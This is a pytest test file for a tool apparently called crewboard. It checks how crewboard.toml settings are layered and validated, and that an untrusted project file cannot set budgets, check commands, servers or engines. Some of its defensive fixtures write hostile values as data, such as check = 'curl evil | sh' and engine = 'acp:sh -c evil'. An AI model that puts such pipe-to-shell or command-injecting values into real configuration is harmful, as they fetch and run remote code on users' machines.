"""The file `crewboard.toml`: what new teams begin with, where values come from, what a stranger's file may not do."""

import contextlib
import os
import re
import subprocess
import time
import tomllib
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from crewboard import UsageError
from crewboard.commands import settings as team_settings
from crewboard_tui import settings
from crewboard_tui.render.themes import THEMES
from crewboard_tui.settings import SETTINGS, read_setting
from tests.cli.shell import COMMAND, Cli
from tests.cli.test_engines import install


@pytest.fixture
def own(cli: Cli, tmp_path_factory: pytest.TempPathFactory) -> Cli:
    """Return the command line with configuration and state of its own."""
    home = tmp_path_factory.mktemp("home")
    return cli.with_environment(XDG_CONFIG_HOME=str(home / "config"), XDG_STATE_HOME=str(home / "state"))


def project(own: Cli, text: str, *, accepted: bool = True) -> Path:
    file = own.root / "crewboard.toml"
    file.write_text(text)
    if accepted:
        assert own.agree("config", "--trust").code == 0
    return file


def users(own: Cli, text: str) -> Path:
    file = Path(own.environment["XDG_CONFIG_HOME"], "crewboard", "crewboard.toml")
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    return file


def row(own: Cli, name: str, **environment: str) -> Mapping[str, Any]:
    found: Mapping[str, Any] = own.with_environment(**environment)("config", name, "--json").json
    return found


def of_team(own: Cli) -> Mapping[str, Any]:
    """Return the settings of a team that is made now."""
    made = own("task", "add", "one")
    assert made.code == 0, made.err
    found: Mapping[str, Any] = own("settings", "--json").json
    return found


def test_each_setting_of_a_team_can_stand_in_the_file() -> None:
    assert {name for name, each in SETTINGS.items() if each.of_team} == {*team_settings.SETTINGS, "budget"}


def test_a_new_team_begins_with_what_the_files_say(own: Cli) -> None:
    users(own, 'model = "qwen3"\nmax_agents = 3\ncheck = "true"\n')
    file = project(own, '\ncheck = "make test"\nworktree = "always"\nworktree_copy = [".env", ".venv"]\n')
    made = own("task", "add", "one")
    assert f"the new team begins with model qwen3 ({users_file(own)}:1), max_agents 3" in made.err
    assert f"check make test ({file}:2)" in made.err
    found = own("settings", "--json").json
    given = ("model", "max_agents", "check", "worktree", "worktree_copy")
    assert [found[name] for name in given] == ["qwen3", 3, "make test", "always", [".env", ".venv"]]
    # It has them now: what is written later is for another team.
    project(own, 'check = "false"\n')
    assert "begins with" not in own("task", "add", "two").err
    assert own("settings", "--json").json["check"] == "make test"
    assert row(own, "check") == {
        "name": "check", "value": "make test", "source": "team", "where": "default",
        "new_teams": {"value": "false", "source": "project", "where": f"{file}:1"},
    }  # fmt: skip
    assert "team: default, new teams: false" in own("config").out


def users_file(own: Cli) -> Path:
    return Path(own.environment["XDG_CONFIG_HOME"], "crewboard", "crewboard.toml")


def test_a_named_team_begins_with_it_too(own: Cli) -> None:
    users(own, 'budget = "$5"\n')
    project(own, 'chek = "make test"\n', accepted=False)
    made = own("team", "create", "red")
    assert made.code == 0
    assert ":1: there is no setting chek, did you mean check?" in made.err
    assert "the new team begins with budget $5" in made.err
    assert "$5" in own("--team", "red", "budget").out
    file = project(own, 'check = "make test"\n', accepted=False)
    assert f"{file} is not used for check before you accept it" in own("team", "create", "blue").err


def test_each_value_comes_from_the_nearest_place(own: Cli) -> None:
    assert row(own, "model") == {
        "name": "model", "value": None, "source": "default", "where": None, "new_teams": None,
    }  # fmt: skip
    mine = users(own, '# mine\nmodel = "mine"\ntheme = "light"\nnotify = "bell"\n')
    assert (row(own, "model")["value"], row(own, "model")["where"]) == ("mine", f"{mine}:2")
    file = project(own, 'model = "ours"\ntheme = "contrast"\n')
    assert (row(own, "model")["source"], row(own, "model")["where"]) == ("project", f"{file}:1")
    assert (row(own, "theme")["value"], row(own, "notify")["value"]) == ("contrast", "bell")
    there = row(own, "model", ANTHROPIC_MODEL="theirs")
    assert (there["value"], there["source"], there["where"]) == ("theirs", "environment", "ANTHROPIC_MODEL")
    assert row(own, "theme", CREWBOARD_THEME="dark")["source"] == "environment"
    assert row(own, "reduced_motion", CREWBOARD_REDUCED_MOTION="1")["value"] is True
    chosen = Path(own.environment["XDG_STATE_HOME"], "crewboard", "theme")
    chosen.write_text("light\n")
    assert (row(own, "theme")["value"], row(own, "theme")["where"]) == ("light", str(chosen))
    own("settings", "model", "now")
    assert row(own, "model")["source"] == "team"
    assert "light" in own("config", "theme").out


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('\nbudjet = "$5"', ":2: there is no setting budjet, did you mean budget?"),
        ('\nbudget = "5x"', ":2: budget: '5x' is not a budget"),
        ("budget = {a = 1}", ":1: budget: give text in quotes, a number, true or false"),
        ('# no\n# no\ncheck = ""', ":3: check: give a command"),
        ("max_agents = true", ":1: max_agents: 'on' is not a number of agents"),
        ('theme = "pink"', ":1: theme: pink is invalid; use one of dark, light, contrast, "),
        ("notify = 1", ":1: notify: 1 is invalid; use one of off, bell, desktop"),
        ("check = make", ":1: Invalid value"),
        ("\nthemes = 1", ":2: themes: give at most 20 tables, each as [themes.NAME]"),
        ("".join(f"[themes.t{number}]\nbase = 'dark'\n" for number in range(21)), ":1: themes: give at most 20"),
        ("[themes.mine]\nkey = '#8fd0ff'", ":1: themes.mine: give the theme that it begins with: base = one of dark, "),
        ("[themes.mine]\nbase = ['dark']", ":2: themes.mine: there is no theme \"['dark']\" to begin with; use one of"),
        ("[themes.mine]\nbase = 'drak'", ":2: themes.mine: there is no theme 'drak' to begin with; use one of dark"),
        ("[theme.mine]\nbase = 'dark'", ":1: theme: it is the name of a theme, did you mean [themes.mine]?"),
        ("[theems.mine]\nbase = 'dark'", ":1: there is no setting theems, did you mean themes?"),
        ("[themes.dark]\nbase = 'light'", ":1: themes.dark: choose another name: there is a theme of that name"),
        ("[themes.'a b']\nbase = 'light'", "themes.a b: choose another name: use small letters"),
        ("# a\n# b\n[themes.\"é\"]\nbase = 'light'", ":3: themes.é: choose another name: use small letters"),
        ("\n[themes.mine]\nbase = 'dark'\n\nneeds = '#ffffff'", ":5: themes.mine: there is no colour needs; they are "),
        ("[themes.mine]\nbase = 'dark'\nneed = 'red'", ':3: themes.mine: need: give a colour as "#7aa2f7"'),
        ("theme = 'dark'\n[themes.mine]\nbase = 'dark'\n# mine\nneed = '#5d6675'", ":5: themes.mine: need #5d6675 has"),
        # Each in its own table, though the next one has such a line.
        ("[themes.a]\nkey = '#8fd0ff'\n[themes.b]\nbase = 'dark'", ":1: themes.a: give the theme that it begins with"),
        ('check = "a"\ncheck = "b"\n#', ":2: Cannot overwrite a value"),
        ("a = " + "[" * 5000, "cannot be read: nested too deeply"),
        ("budget = '\udcff'", "cannot be read: 'utf-8' codec can't decode"),
    ],
)  # fmt: skip
def test_a_wrong_line_is_said_with_its_place(own: Cli, text: str, said: str) -> None:
    file = users_file(own)
    file.parent.mkdir(parents=True)
    file.write_bytes(text.encode("utf-8", "surrogateescape"))
    shown = own("config")
    assert (shown.code, shown.err.count("\n")) == (0, 1)
    assert shown.err.startswith(str(file))
    assert said in shown.err


def test_a_refused_theme_is_told_with_its_reason_wherever_it_is_named(own: Cli) -> None:
    """The figure is below the one that is needed, also where both would be the same with one digit."""
    file = users(own, "theme = 'mine'\n[themes.mine]\nbase = 'dark'\nkey = '#9699ab'\n")
    why = f"{file}:4: key #9699ab has a contrast of "
    listed = own("config").err
    assert f"{file}:1: theme: the theme mine is refused: {why}" in listed
    own("config", "themes.mine").refused(2, f"the theme mine is refused: {why}")
    figure, needed = map(float, re.findall(r"([\d.]+) : 1", listed)[:2])
    assert (4.45 < figure < 4.5, needed) == (True, 4.5), "just too dark: with one digit it looks right"
    with pytest.raises(UsageError, match="the theme mine is refused: "):
        read_setting("theme", "mine", (), settings.read_files(None, own.environment).refused)


@pytest.mark.parametrize("head", ["", "[themes.mine]\nbase = 'dark'\n"])
def test_a_file_of_wrong_lines_delays_no_start(own: Cli, head: str) -> None:
    """The first are told with their places, and the others counted; what is right is used."""
    begins = f"budget = '$7'\n{head}{' ' * 50_000}\n"
    file = users(own, begins + "".join(f"wrong{number} = 1\n" for number in range(9_000)))
    started = time.process_time()
    found = settings.read_files(None, own.environment)
    assert time.process_time() - started < 2
    told = [*found.problems, *found.unknown]
    first = begins.count("\n") + 1
    assert [each.removeprefix(f"{file}:").partition(":")[0] for each in told[:20]] == [
        str(first + number) for number in range(20)
    ]
    assert "8980 more" in told[20]
    assert len(told) == 21
    assert found.given["budget"].value == "$7"


def test_a_colour_that_its_ground_spoils_names_the_ground(own: Cli) -> None:
    file = users(own, "[themes.a]\nbase = 'dark'\nground = '#5d6675'\n[themes.b]\nbase = 'dark'\nkey = '#8fd0ff'\n")
    said = [each for each in dashboard(own).problems if ": key #7aa2f7 has" in each]
    assert [each.partition(": themes.a: ")[0] for each in said] == [f"{file}:3"]
    assert said[0].endswith("; the ground #5d6675 causes it, key is of dark")


def test_the_dashboard_says_what_concerns_it(own: Cli) -> None:
    file = users(own, 'theme = "pink"\nnotify = "bell"\nthem = 1\nbudget = "x"\n')
    opened = dashboard(own)
    assert (opened.theme, opened.notify) == ("dark", "bell")
    assert opened.problems[0] == f"{file}:1: theme: pink is invalid; use one of {', '.join(THEMES)}"
    assert opened.problems[1] == f"{file}:3: there is no setting them, did you mean theme?"


def dashboard(own: Cli) -> settings.Settings:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CONFIG_HOME", own.environment["XDG_CONFIG_HOME"])
        return settings.Settings.read(own.environment, own.root)


def test_a_budget_that_is_not_understood_is_not_left_out(own: Cli) -> None:
    file = users(own, '\nbudget = "5x"')
    own("task", "add", "one").refused(65, f"{file}:2: budget: '5x' is not a budget", "correct that line")
    assert not (own.root / ".crewboard" / "default" / "config.json").exists()
    users(own, 'budjet = "$5"')
    assert "there is no setting budjet" in own("task", "add", "one").err


def test_a_strangers_file_changes_nothing_but_the_look(own: Cli) -> None:
    mine = users(own, 'budget = "$1"\nworktree = "always"\n')
    theirs = 'budget = "$900"\nworktree = "never"\ncheck = "curl evil | sh"\ntheme = "light"\n[more]\n'
    file = project(own, theirs, accepted=False)
    assert (row(own, "budget")["where"], row(own, "check")["value"]) == (f"{mine}:1", None)
    assert "is not accepted, and new teams do not use it: `crewboard config --trust`" in own("config", "check").err
    assert dashboard(own).theme == "light"
    made = own("task", "add", "one")
    assert f"{file} is not used for budget, worktree, check before you accept it" in made.err
    found = own("settings", "--json").json
    assert (found["worktree"], found["check"]) == ("always", None)


def test_a_wrong_value_is_told_before_the_file_is_accepted(own: Cli) -> None:
    file = project(own, 'model = "m"\nbudget = "5x"\n', accepted=False)
    says = f"{file}:2: budget: '5x' is not a budget"
    assert says in own("config").err
    made = own("task", "add", "one")
    assert (made.code, says in made.err) == (0, True)
    assert f"{file} is not used for model, budget before you accept it" in made.err


def test_themes_of_a_strangers_file_are_looks_and_no_more(own: Cli) -> None:
    mine = users(own, "[themes.paper]\nbase = 'light'\nkey = '#7a1fa2'\n")
    file = project(
        own, 'theme = "night"\nbudget = "$900"\n[themes.night]\nbase = "dark"\nkey = "#9ab8ff"\n', accepted=False
    )
    opened = dashboard(own)
    assert (opened.theme, sorted(opened.themes), opened.problems) == ("night", ["night", "paper"], ())
    assert row(own, "themes.night") == {
        "name": "themes.night", "value": {"base": "dark", "key": "#9ab8ff"}, "source": "project",
        "where": f"{file}:3", "new_teams": None,
    }  # fmt: skip
    shown = own("config", "themes.paper").out
    assert "themes.paper base=light key=#7a1fa2" in shown
    assert f"from: your file: {mine}:1" in shown
    assert "themes.paper" in own("config").out
    own("config", "themes.other").refused(2, "there is no setting 'themes.other'", "themes.night")
    # A new team asks for none of them: they are no unknown settings there.
    made = own("task", "add", "one")
    assert (made.code, "no setting" in made.err) == (0, False)
    # A line of it that cannot be read is no reason to refuse a team.
    file.write_text('[themes.night]\nbase = "dark"\nkey = "#16181d"\n')
    assert "themes.night: key #16181d has a contrast of 1.00 : 1" in own("config").err
    own("team", "create", "red")
    assert own("--team", "red", "config", "theme", "--json").json["value"] == "dark"


def test_a_project_replaces_no_theme_of_the_user(own: Cli) -> None:
    mine = users(own, "[themes.paper]\nbase = 'light'\nkey = '#7a1fa2'\n")
    file = project(own, "[themes.paper]\nbase = 'dark'\n", accepted=False)
    assert dashboard(own).problems == (
        f"{file}:1: themes.paper: your own file has a theme of that name, which is used",
    )
    assert row(own, "themes.paper")["where"] == f"{mine}:1"
    # Nor where that of the user is refused.
    users(own, "[themes.paper]\nbase = 'light'\nkey = '#ffffff'\n")
    assert dashboard(own).themes == {}


@pytest.mark.parametrize("base", THEMES)
def test_a_project_swaps_no_good_and_bad(own: Cli, base: str) -> None:
    usual = THEMES[base].variables
    # The user may.
    mine = f"[themes.odd]\nbase = '{base}'\ngood = '{usual['bad']}'\n".lower()
    users(own, mine)
    assert list(dashboard(own).themes) == ["odd"]
    users(own, "")
    for role, other in (("good", "bad"), ("bad", "good")):
        file = project(own, f"[themes.odd]\nbase = '{base}'\n{role} = '{usual[other].lower()}'\n", accepted=False)
        (said,) = dashboard(own).problems
        assert said.lower().startswith(f"{file}:3: themes.odd: {role} {usual[other]} is nearer to {other} ".lower())
        assert dashboard(own).themes == {}
        file.unlink()


def test_each_way_to_choose_a_theme_takes_the_users_own(own: Cli) -> None:
    users(own, "[themes.paper]\nbase = 'light'\nkey = '#7a1fa2'\n")
    assert row(own, "theme", CREWBOARD_THEME="paper")["value"] == "paper"
    state = Path(own.environment["XDG_STATE_HOME"], "crewboard")
    state.mkdir(parents=True, exist_ok=True)
    (state / "theme").write_text("paper\n")
    assert dashboard(own).theme == "paper"


def test_a_projects_file_gets_no_theme_that_others_lack(own: Cli) -> None:
    users(own, "[themes.paper]\nbase = 'light'\nkey = '#7a1fa2'\n")
    own("init", "--yes", "--theme", "paper").refused(2, "paper is a theme of your own file, which others do not have")
    assert not (own.root / "crewboard.toml").exists()


@pytest.mark.parametrize("line", ['server = "http://127.0.0.1:9"', "engine = 'acp:sh -c evil'"])
def test_a_project_chooses_neither_a_server_nor_a_command(own: Cli, line: str) -> None:
    """Not even if the user accepted the file, in which it is one line of many."""
    file = project(own, line)
    own("task", "add", "one").refused(65, f"{file}:1", "a project does not choose that")
    file.unlink()
    assert own.agree("config", "--trust").code == 0
    users(own, line)
    name = line.partition(" ")[0]
    assert of_team(own)[name] == tomllib.loads(line)[name]


@pytest.mark.parametrize("change", ["", 'budget = "$900"\n', None])
def test_a_file_that_an_agent_changed_stops_new_teams(own: Cli, change: str | None) -> None:
    file = project(own, 'budget = "$1"\n')
    if change is None:
        file.unlink()
    else:
        file.write_text(change)
    how = f"{file} {'is gone' if change is None else 'has changed'} since you accepted it"
    own("task", "add", "one").refused(77, how, "`crewboard config --trust`")
    assert how in own("config").err
    asked = own("config", "--trust").err
    assert ("read" in asked, f"see that there is no {file}" in asked) == (change is not None, change is None)
    accepted = own.agree("config", "--trust")
    assert (accepted.code, "there is no" in accepted.out) == (0, change is None)
    assert own("task", "add", "one").code == 0


def test_a_yes_is_bound_to_the_text_that_was_shown(own: Cli) -> None:
    file = project(own, 'check = "true"\n', accepted=False)
    asked = own("config", "--trust").err
    file.write_text('check = "evil"\n')
    sha256 = asked.partition("--sha256 ")[2].partition("`")[0]
    assert own("config", "--trust", "--sha256", sha256).code == 65
    assert row(own, "check")["value"] is None


def test_a_link_and_a_pipe_are_no_project_file(own: Cli, tmp_path_factory: pytest.TempPathFactory) -> None:
    elsewhere = tmp_path_factory.mktemp("elsewhere") / "secret"
    elsewhere.write_text("password = 1\n")
    file = own.root / "crewboard.toml"
    file.symlink_to(elsewhere)
    said = own("config")
    assert f"{file} cannot be read: a symbolic link" in said.err
    assert "password" not in said.err + own("config", "--trust").err
    file.unlink()
    os.mkfifo(file)
    assert "not a regular file" in own("config").err


def test_init_writes_a_file_that_says_everything(own: Cli) -> None:
    own("init").refused(2, "in a script give --yes")
    written = own(
        "init", "--yes", "--budget", "$5", "--check", 'make "all"\\', "--worktree", "always", "--theme", "light"
    )
    assert written.code == 0, written.err
    text = (own.root / "crewboard.toml").read_text()
    given = {"budget": "$5", "check": 'make "all"\\', "worktree": "always", "theme": "light"}
    assert tomllib.loads(text) == given
    # What is commented out is right, too.
    lines = (line.removeprefix("# ") for line in text.splitlines())
    every = tomllib.loads("\n".join(line for line in lines if line.partition(" =")[0] in SETTINGS))
    assert [*every] == [*SETTINGS]
    for name, value in every.items():
        said = settings._as_text(value)
        assert said is not None
        settings.read_setting(name, said)
    # The user who wrote it need not accept it.
    assert row(own, "check")["source"] == "project"
    own("init", "--yes").refused(2, "is there already")
    assert (own.root / "crewboard.toml").read_text() == text


def test_init_writes_the_users_file_and_tells_of_teams_that_there_are(own: Cli) -> None:
    assert of_team(own)["engine"] is None
    written = own("init", "--user", "--yes", "--engine", "acp:my agent")
    assert (written.code, "the team default keeps its settings" in written.err) == (0, True)
    assert row(own, "engine")["new_teams"]["value"] == "acp:my agent"
    assert "tokens is used up by the first call" in own("init", "--yes", "--budget", "5").err
    (own.root / "crewboard.toml").unlink()
    own("init", "--yes", "--engine", "acp:my agent").refused(2, "--user")
    own("init", "--yes", "--budget", "x").refused(2, "'x' is not a budget")
    assert not (own.root / "crewboard.toml").exists()


def test_init_asks_three_questions(tmp_path: Path, shell: Cli) -> None:
    """In a real terminal: a wrong answer is asked again."""
    root = shell.root / "project"
    root.mkdir()
    (root / "Makefile").write_text("build:\n\ntest: build\n\ttrue\n")
    home = {"XDG_CONFIG_HOME": str(tmp_path / "c"), "XDG_STATE_HOME": str(tmp_path / "s")}
    path = f"{install(tmp_path / 'npm', '0.101.0')}:/usr/bin:/bin"
    shown = in_terminal(root, {**shell.environment, **home, "PATH": path}, ["claude", "5x", "$5", ""], "init")
    assert "or claude, which you have here" in shown
    assert "'5x' is not a budget" in shown
    assert "Enter: make test" in shown
    given = tomllib.loads((root / "crewboard.toml").read_text())
    assert given == {"engine": "claude", "budget": "$5", "check": "make test"}


def in_terminal(root: Path, environment: Mapping[str, str], replies: list[str], *command: str) -> str:
    """Run a command in a terminal, reply to its questions, and return what was shown."""
    ours, theirs = os.openpty()
    with subprocess.Popen([*COMMAND, *command], cwd=root, env=dict(environment), stdin=theirs, stdout=theirs,
                          stderr=theirs, start_new_session=True) as process:  # fmt: skip
        os.close(theirs)
        os.write(ours, "".join(f"{reply}\n" for reply in replies).encode())
        shown = b""
        # At its end, the terminal is gone.
        with contextlib.suppress(OSError):
            while more := os.read(ours, 4096):
                shown += more
        process.wait()
    os.close(ours)
    assert process.returncode == 0, shown
    return shown.decode()


def test_a_team_works_with_its_engine_unless_a_model_is_asked_for(
    own: Cli, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Each hire is refused, for an option that no engine takes or without a key: that says which would have worked."""
    users(own, 'engine = "claude"\n')
    own = own.with_environment(PATH=f"{install(tmp_path_factory.mktemp('npm'), '0.101.0')}:/usr/bin:/bin")
    own("task", "add", "one")
    own(*_hire("explore"), "--effort", "high").refused(2, "--effort", "with the engine claude")
    for option in (("--engine", "none"), ("--model", "opus")):
        own(*_hire("explore"), *option).refused(78, "no API key")
    own(*_hire("lead")).refused(78, "no API key")
    own("settings", "engine", "copilot").refused(2, "there is no engine 'copilot'")


def _hire(kind: str) -> list[str]:
    return ["spawn", "scout", "--type", kind, "--prompt", "look", "--background"]


@pytest.mark.long
def test_doctor_says_what_is_wrong_with_the_files(own: Cli) -> None:
    def checked() -> list[tuple[str, str, str]]:
        found = (each for each in own("doctor", "--json").json if each["name"] == "settings")
        return [(each["mark"], each["detail"], each["remedy"] or "") for each in found]

    assert checked() == []
    mine = users(own, 'theme = "light"\nbudgt = "$5"\n')
    ((mark, detail, _),) = checked()
    assert (mark, detail) == ("note", f"{mine}:2: there is no setting budgt, did you mean budget?")
    users(own, 'theme = "light"\nbudget = "lots"\n')
    ((mark, detail, remedy),) = checked()
    assert mark == "bad"
    assert detail.startswith(f"{mine}:2: budget: ")
    assert "remove the line" in remedy
    users(own, 'theme = "light"\n')
    file = project(own, 'check = "true"\n', accepted=False)
    ((mark, detail, remedy),) = checked()
    assert (mark, detail) == ("note", f"{file} is not accepted, so new teams begin without check")
    assert "config --trust" in remedy
    file.write_text('check = ""\n')
    ((mark, detail, _),) = checked()
    assert (mark, detail.startswith(f"{file}:1: check: ")) == ("note", True)
    project(own, 'check = "true"\n')
    assert checked() == [("ok", f"{mine} and {file}: 2 values", "")]
    project(own, 'check = "false"\n', accepted=False)
    ((mark, detail, _),) = checked()
    assert (mark, "no new team is made" in detail) == ("bad", True)
    file.write_text('"check\\nok    python" = 1\n')
    assert "there is no setting check ok python" in own("doctor").out
